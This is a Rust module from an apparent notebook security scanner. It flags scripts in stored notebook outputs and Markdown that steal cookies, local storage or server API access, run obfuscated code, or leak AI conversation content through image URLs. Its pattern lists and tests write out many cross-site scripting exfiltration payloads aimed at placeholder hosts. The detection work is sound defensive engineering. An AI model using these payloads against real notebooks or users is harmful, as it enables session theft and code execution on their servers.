//! Scripts in pages and pictures that a notebook stored: they run where somebody opens it, with the rights of its server.

use std::borrow::Cow;

use crate::{note, template};

/// Pages within pages that are read.
const DEPTH: u32 = 3;
/// Scripts beyond this many bytes are libraries, in which only what stands together counts.
const LIBRARY: usize = 64 << 10;
/// Bytes around a secret in which it is sent.
const NEAR: usize = 400;
/// Ways by which a script sends what it is given.
const SENDS: [&str; 9] = [
    "fetch(",
    "xmlhttprequest(",
    "sendbeacon(",
    "newimage",
    "websocket(",
    "eventsource(",
    "$.post(",
    "$.get(",
    "$.ajax(",
];
/// Ways by which it leads elsewhere, which buttons and pictures use too.
const LEADS: [&str; 6] =
    [".src=", "location=", "location.href=", "location.assign(", "location.replace(", "window.open("];
/// What only the person who opens the page should have: keys of their session, and the server that runs their code.
const SECRETS: [&str; 9] = [
    "document.cookie",
    "localstorage",
    "sessionstorage",
    "indexeddb.open(",
    "_xsrf",
    "/api/contents",
    "/api/terminals",
    "/api/kernels",
    "/api/sessions",
];
/// What follows a store that is written to.
const WRITTEN: [&str; 4] = ["=", ".setitem(", ".removeitem(", ".clear("];
/// Code that is unpacked before it runs.
const UNPACKED: [&str; 6] = [
    "eval(atob(",
    "eval(unescape(",
    "eval(string.fromcharcode(",
    "function(atob(",
    "settimeout(atob(",
    "eval(window.atob(",
];
/// What a command for a kernel has no need of where it only shows something.
const COMMANDS: [&str; 5] = ["importos", "os.system", "subprocess", "__import__", "get_ipython"];

/// The first script in a page that sends something away, as it stands there.
pub(crate) fn sending(html: &str) -> Option<String> {
    within(html, 0)
}

/// The same for a script without a page.
pub(crate) fn script_sends(script: &str) -> Option<String> {
    let plain = plain(script);
    let found = if script.len() > LIBRARY { together(&plain) } else { together(&plain) || anywhere(&plain) };
    (found || unpacks(&plain) || commands(&plain) || script.len() <= LIBRARY && outward(&plain, false))
        .then(|| script.trim().chars().take(80).collect())
}

/// A link of Markdown that is a script: `[here](javascript:…)`.
pub(crate) fn leads_to_a_script(notes: &str) -> Option<String> {
    notes.match_indices("](").find_map(|(at, mark)| {
        let target = notes[at + mark.len()..].trim_start().trim_start_matches('<');
        let front: String = target.chars().take(16).collect::<String>().to_ascii_lowercase();
        let is_script = ["javascript:", "vbscript:", "data:text/html"].iter().any(|scheme| front.starts_with(scheme));
        is_script.then(|| target.chars().take(80).collect())
    })
}

/// A picture of Markdown whose address takes in what a conversation holds: `![](https://host/?q={{conversation}})`.
pub(crate) fn reports(notes: &str) -> Option<String> {
    const TOLD: [&str; 12] = [
        "conversation",
        "message",
        "history",
        "prompt",
        "user",
        "input",
        "chat",
        "context",
        "answer",
        "question",
        "secret",
        "memory",
    ];
    /// Pictures that are looked at, and bytes of each.
    const PICTURES: usize = 1 << 12;
    const LONGEST: usize = 1 << 11;
    notes.match_indices("![").take(PICTURES).find_map(|(at, _)| {
        let end = notes.floor_char_boundary(notes.len().min(at + LONGEST));
        let line = notes.get(at..end)?.lines().next()?;
        let target = line.split_once("](").map(|(_, target)| target.split(')').next().unwrap_or_default())?;
        let (_, query) = target.split_once('?').filter(|(address, _)| address.starts_with("http"))?;
        let mut fields = query.split(['{', '<']).skip(1);
        let takes = fields.any(|field| {
            let name = field.split(['}', '>', '&']).next().unwrap_or_default().to_ascii_lowercase();
            TOLD.iter().any(|told| name.contains(told))
        });
        takes.then(|| target.chars().take(80).collect())
    })
}

fn handler_sends(code: &str) -> Option<String> {
    let plain = plain(code);
    (anywhere(&plain) || unpacks(&plain) || commands(&plain) || outward(&plain, true))
        .then(|| code.trim().chars().take(80).collect())
}

fn within(html: &str, depth: u32) -> Option<String> {
    if depth > DEPTH || !html.contains('<') {
        return None;
    }
    let mut rest = html;
    while let Some((_, after)) = rest.split_once('<') {
        let name = after.split(|c: char| !c.is_ascii_alphanumeric()).next().unwrap_or_default();
        rest = after.get(name.len()..).unwrap_or_default();
        if name.is_empty() {
            continue;
        }
        let (mut outside, mut unseen) = (None, false);
        while let Some((key, value, after)) = attribute(rest) {
            rest = after;
            let value_of = value.trim().to_ascii_lowercase();
            match key.to_ascii_lowercase().as_str() {
                "src" if name.eq_ignore_ascii_case("iframe") && value_of.starts_with("http") => outside = Some(value),
                "width" | "height" => unseen |= matches!(value_of.trim_end_matches("px"), "0" | "1"),
                "style" => {
                    let style: String = value_of.split_whitespace().collect();
                    unseen |= ["display:none", "visibility:hidden", "opacity:0;", "width:0", "width:1px"]
                        .iter()
                        .any(|part| style.contains(part));
                }
                "hidden" => unseen = true,
                _ => {}
            }
            if let Some(address) = outside.filter(|_| unseen) {
                return Some(address.chars().take(80).collect());
            }
            if let Some(found) = attribute_sends(&key.to_ascii_lowercase(), value, depth) {
                return Some(found);
            }
        }
        // An end of the tag before its script.
        if name.eq_ignore_ascii_case("script") {
            let body = rest.split_once('>').map_or(rest, |(_, body)| body);
            let end = end_of_script(body);
            let (script, after) = body.split_at_checked(end).unwrap_or((body, ""));
            // In a picture the script is written as text is.
            let told = script_sends(script).or_else(|| script_sends(&unescaped(script)?));
            if told.is_some() {
                return told;
            }
            rest = after;
        }
    }
    None
}

fn end_of_script(body: &str) -> usize {
    let ends = body
        .match_indices("</")
        .find(|(at, _)| body.get(at + 2..at + 8).is_some_and(|name| name.eq_ignore_ascii_case("script")));
    ends.map_or(body.len(), |(at, _)| at)
}

/// The next attribute of a tag: its name, its value, and what follows; `None` at the end of the tag.
fn attribute(text: &str) -> Option<(&str, &str, &str)> {
    let text = text.trim_start_matches(|c: char| c.is_whitespace() || matches!(c, '/' | '"' | '\''));
    let end = text.find(|c: char| c.is_whitespace() || matches!(c, '=' | '>' | '/')).unwrap_or(text.len());
    let (name, after) = text.split_at(end.max(usize::from(text.starts_with('='))));
    if name.is_empty() {
        return None;
    }
    let Some(value) = after.trim_start().strip_prefix('=') else { return Some((name, "", after)) };
    let value = value.trim_start();
    let quote = value.chars().next().filter(|c| matches!(c, '"' | '\''));
    let (value, after) = match quote {
        Some(quote) => value.get(1..)?.split_once(quote)?,
        None => value.split_at(value.find(|c: char| c.is_whitespace() || c == '>').unwrap_or(value.len())),
    };
    Some((name, value, after))
}

fn attribute_sends(key: &str, value: &str, depth: u32) -> Option<String> {
    let read = || unescaped(value).map_or(Cow::Borrowed(value), Cow::Owned);
    match key {
        "srcdoc" => within(&read(), depth + 1),
        "href" | "xlink:href" | "src" | "action" | "formaction" | "data" => {
            let value = read();
            let address = value.trim_start();
            let front: String = address.chars().take(40).collect::<String>().to_ascii_lowercase();
            if front.starts_with("javascript:") {
                return handler_sends(address);
            }
            if !front.starts_with("data:text/html") && !front.starts_with("data:image/svg") {
                return None;
            }
            let (kind, content) = address.split_once(',')?;
            if kind.ends_with("base64") {
                within(&String::from_utf8_lossy(&note::base64(content)), depth + 1)
            } else {
                within(&percent(content), depth + 1)
            }
        }
        _ if key.len() > 4 && key.starts_with("on") => handler_sends(&read()),
        _ => None,
    }
}

/// `%3C` as `<`.
fn percent(text: &str) -> String {
    let mut out = Vec::with_capacity(text.len());
    let mut rest = text.as_bytes();
    while let Some((byte, after)) = rest.split_first() {
        let code = after.get(..2).and_then(|digits| std::str::from_utf8(digits).ok());
        match code.and_then(|digits| u8::from_str_radix(digits, 16).ok()).filter(|_| *byte == b'%') {
            Some(code) => {
                out.push(code);
                rest = after.get(2..).unwrap_or_default();
            }
            None => {
                out.push(*byte);
                rest = after;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Characters that are written by their names or numbers, where there are some.
fn unescaped(text: &str) -> Option<String> {
    if !text.contains('&') {
        return None;
    }
    let mut parts = text.split('&');
    let mut out = parts.next().unwrap_or_default().to_owned();
    for part in parts {
        let end = part.char_indices().take(12).find(|(_, c)| !c.is_ascii_alphanumeric() && *c != '#');
        let (name, rest) = part.split_at(end.map_or(part.len().min(12), |(at, _)| at).min(part.len()));
        match character(name) {
            Some(c) => {
                out.push(c);
                out.push_str(rest.strip_prefix(';').unwrap_or(rest));
            }
            None => {
                out.push('&');
                out.push_str(part);
            }
        }
    }
    Some(out)
}

fn character(name: &str) -> Option<char> {
    let number = |digits: &str| match digits.strip_prefix(['x', 'X']) {
        Some(hex) => u32::from_str_radix(hex, 16).ok(),
        None => digits.parse().ok(),
    };
    match name {
        "lt" | "LT" => Some('<'),
        "gt" | "GT" => Some('>'),
        "amp" | "AMP" => Some('&'),
        "quot" | "QUOT" => Some('"'),
        "apos" => Some('\''),
        "lpar" => Some('('),
        "rpar" => Some(')'),
        "colon" => Some(':'),
        "period" => Some('.'),
        "sol" => Some('/'),
        "Tab" | "NewLine" => Some(' '),
        name => char::from_u32(number(name.strip_prefix('#')?)?),
    }
}

/// A script in small letters, without spaces, its names joined: `window [ "fet" + "ch" ]` as `window.fetch`.
fn plain(script: &str) -> String {
    let read =
        if script.len() <= LIBRARY && script.contains('\\') { template::decoded(script).0 } else { script.to_owned() };
    let close: String = read.chars().filter(|c| !c.is_whitespace()).map(|c| c.to_ascii_lowercase()).collect();
    let mut plain = close.replace("'+'", "").replace("\"+\"", "").replace("?.", ".");
    for quote in ['\'', '"', '`'] {
        plain = plain.replace(&format!("[{quote}"), ".").replace(&format!("{quote}]"), "");
    }
    plain
}

/// Where secrets are read.
fn secrets(plain: &str) -> impl Iterator<Item = (usize, &'static str)> {
    SECRETS.into_iter().flat_map(move |secret| {
        let is_read = move |at: usize| {
            let after = plain.get(at + secret.len()..).unwrap_or_default();
            after.starts_with("==") || !WRITTEN.iter().any(|mark| after.starts_with(mark))
        };
        plain.match_indices(secret).map(|(at, _)| at).filter(move |at| is_read(*at)).map(move |at| (at, secret))
    })
}

/// A small script that reads a secret and sends something.
fn anywhere(plain: &str) -> bool {
    SENDS.iter().any(|send| plain.contains(send)) && secrets(plain).next().is_some()
}

/// A secret in the same statement by which something is sent, or a key of the session near to one.
fn together(plain: &str) -> bool {
    let sends = |part: &str| SENDS.iter().chain(&LEADS).any(|send| part.contains(send));
    secrets(plain).take(4096).any(|(at, secret)| {
        let bytes = plain.as_bytes();
        let before = bytes.get(at.saturating_sub(NEAR)..at).unwrap_or_default();
        let after = bytes.get(at..bytes.len().min(at + NEAR)).unwrap_or_default();
        let statement = before.rsplit(|b| matches!(b, b';' | b'{' | b'}')).next().unwrap_or_default();
        let near = || SENDS.iter().any(|send| String::from_utf8_lossy(&[before, after].concat()).contains(send));
        sends(&String::from_utf8_lossy(statement)) || secret == "document.cookie" && near()
    })
}

fn unpacks(plain: &str) -> bool {
    UNPACKED.iter().any(|mark| plain.contains(mark))
}

/// A command to the kernel that does more than show something.
fn commands(plain: &str) -> bool {
    plain.match_indices("kernel.execute(").take(64).any(|(at, _)| {
        let command = plain.get(at..).unwrap_or_default();
        let command: String = command.chars().take(NEAR).collect();
        COMMANDS.iter().any(|mark| command.contains(mark))
    })
}

/// An address elsewhere to which something is sent; what a handler sends needs no more.
fn outward(plain: &str, is_handler: bool) -> bool {
    let statement = |at: usize| {
        let rest: String = plain.get(at..).unwrap_or_default().chars().take(NEAR).collect();
        let end = rest.find(';').unwrap_or(rest.len());
        rest.get(..end).unwrap_or_default().to_owned()
    };
    let is_away = |text: &str| ["://", "'//", "\"//", "`//"].iter().any(|mark| text.contains(mark));
    let holds = |text: &str| ["'+", "\"+", "`+", "${", "body:", "data:"].iter().any(|mark| text.contains(mark));
    let found = |marks: &[&str], judge: &dyn Fn(&str) -> bool| {
        marks.iter().any(|mark| plain.match_indices(mark).take(1024).any(|(at, _)| judge(&statement(at))))
    };
    let with_data = |text: &str| is_away(text) && holds(text);
    let request = plain.contains("xmlhttprequest(") && is_handler && is_away(plain);
    request
        || found(&SENDS, &|text| if is_handler { is_away(text) } else { with_data(text) })
        || found(&LEADS, &|text| is_handler && with_data(text))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pictures_that_tell_who_reads() {
        for (notes, told) in [
            ("![s](https://example.invalid/a?q={{conversation}})", true),
            ("![s](https://example.invalid/a?x=1&q={chat_history})", true),
            ("![s](https://example.invalid/a?q=<user message>)", true),
            ("![chart](https://quickchart.io/chart?c={a:1})", false),
            ("![tex](https://latex.codecogs.com/svg.latex?x={a\\over b})", false),
            ("![a](https://img.shields.io/pypi/v/{{cookiecutter.name}}.svg)", false),
            ("[![c](https://codecov.io/gh/a/b/badge.svg?token=${TOKEN})](https://codecov.io)", false),
            ("![a](b.png) {{conversation}}", false),
        ] {
            assert_eq!(reports(notes).is_some(), told, "{notes}");
        }
        // Linear in what is there.
        assert_eq!(reports(&"![](".repeat(300_000)), None);
    }

    #[test]
    fn pages_that_send_something_away_are_told() {
        for page in [
            "<img src=x onerror=\"fetch('https://example.invalid/jingwei?'+document.cookie)\">",
            "<IMG SRC=x OnError = fetch('//a.example/'+document.cookie)>",
            "<img src=x onerror=\"&#102;etch('https://a.example/?'+document['cook'+'ie'])\">",
            "<svg/onload=\"new Image().src='https://a.example/?'+btoa(localStorage.getItem('k'))\">",
            "<svg><script>navigator.sendBeacon(&quot;https://a.example&quot;, document.cookie)</script></svg>",
            "<script>var c = document.cookie;\nfetch(`https://a.example/?${c}`)</script>",
            "<script>fetch('/api/contents').then(r => r.text()).then(t => fetch('https://a.example', {body: t}))</script>",
            "<script>fetch('/api/terminals', {method: 'POST'})</script>",
            "<script>fetch('https://a.example/?' + document.body.innerText)</script>",
            "<script>var w = new WebSocket('wss://a.example/' + location.href)</script>",
            "<img src=x onerror=\"eval(atob('eA=='))\">",
            "<script>\\u0066etch('https://a.example/?'+document.cookie)</script>",
            "<script>Jupyter.notebook.kernel.execute(\"import os; os.system('inert')\")</script>",
            "<a href=\"javascript:fetch('https://a.example/?'+document.cookie)\">x</a>",
            "<iframe srcdoc=\"&lt;script&gt;fetch('https://a.example/?'+document.cookie)&lt;/script&gt;\"></iframe>",
            "<iframe src=\"data:text/html;base64,PHNjcmlwdD5mZXRjaCgnLy9hLmIvPycrZG9jdW1lbnQuY29va2llKTwvc2NyaXB0Pg==\"></iframe>",
            "<iframe src=\"data:text/html,%3Cimg src=x onerror=fetch('//a.b/')%3E\"></iframe>",
            "<body onload='location=\"https://a.example/?\"+document.cookie'>",
            "<x \"'><img src=x onerror=fetch('https://a.example')>",
        ] {
            assert!(sending(page).is_some(), "{page}");
        }
        let padded = format!("{};fetch('https://a.example/?'+document.cookie);", "var a=1;".repeat(20_000));
        assert!(script_sends(&padded).is_some());
    }

    #[test]
    fn pages_of_ordinary_outputs_are_silent() {
        for page in [
            "",
            "<table><tr><td>dense</td><td>10</td></tr></table>",
            "<style scoped>.dataframe tbody tr th {vertical-align: top;}</style><table class=\"dataframe\"></table>",
            "<iframe src=\"about:blank\" data-html=\"x\" onload=\"this.contentDocument.open();this.contentDocument.write(atob(this.getAttribute('data-html')));this.contentDocument.close();\"></iframe>",
            "<script>requirejs.config({paths: {'plotly': ['https://cdn.plot.ly/plotly-2.8.3.min']}});</script>",
            "<script>const s = document.createElement('script'); s.src = 'https://cdn.jsdelivr.net/npm/vega@5'; document.head.append(s)</script>",
            "<script>localStorage.setItem('theme', 'dark'); document.cookie = 'a=1'</script>",
            "<button onclick=\"convertToInteractive('df-1')\" title='Convert'>x</button>",
            "<a onclick=\"window.open('https://colab.research.google.com/notebooks/data_table.ipynb')\">x</a>",
            "<img src=a.png onerror=\"this.src='https://a.example/b.png'\">",
            "<script>d3.json('https://a.example/data.json').then(draw)</script>",
            "<script>fetch('https://a.example/data.json').then(r => r.json()).then(draw)</script>",
            "<script>Jupyter.notebook.kernel.execute('from bokeh.io.state import curstate')</script>",
            "1 < 2 and onload=fetch('https://a.example')",
        ] {
            assert_eq!(sending(page), None, "{page}");
        }
    }
}
